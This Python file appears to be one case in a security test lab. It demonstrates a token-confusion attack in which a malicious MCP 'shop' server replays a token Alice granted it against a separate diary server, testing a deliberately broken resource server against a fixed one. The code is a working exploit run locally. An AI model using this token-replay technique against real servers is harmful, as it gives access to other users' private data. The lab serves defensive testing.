"""Steals: Alice's diary, with a token that she gave to another server.

Mallory runs a shop as an MCP server. Alice signs in there, as she does everywhere, so the shop
gets a token with her name in it. Mallory takes it to the server that has Alice's diary, which
trusts the same authorization server. The token says that it is for the shop.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from identity.jwt_tokens import Issuer

from attacks.finding import Finding
from attacks.lab import running
from attacks.target import Refused, Server, call
from attacks.tokens import SHOP

AGAINST = "identity"
CASE = "python-sdk#1435"
IDENTITY = Path(__file__).parent.parent / "identity"
OPEN, SECURE = IDENTITY / "resource_broken.py", IDENTITY / "oauth_server.py"


async def attack(program: Path) -> Finding:
    with publishing() as issuer, running(program, {"OAUTH_ISSUER": issuer.url}) as (url, _, _):
        # The same token that authorization_server.py makes when Alice has agreed to use the
        # shop.
        token = issuer.token("alice", SHOP, client_id="the shop's", scope="diary")
        server = Server(url, alice="", mallory=token, post_path="/messages/")
        try:
            async with server.open(server.mallory) as stream:
                await stream.initialize()
                await stream.send(call(1, "read_diary"))
                reply = json.loads((await stream.reply(1)).data)
        except Refused as refused:
            return Finding(False, f"with the shop's token, {refused}")
    return Finding(True, f"the shop read: {reply['result']['content'][0]['text']}"[:70])


@contextmanager
def publishing() -> Iterator[Issuer]:
    """An authorization server. Only its public keys are needed here."""

    class Keys(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(json.dumps(issuer.jwks()).encode())

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Keys) as server:
        issuer = Issuer(f"http://127.0.0.1:{server.server_port}")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield issuer
        finally:
            server.shutdown()
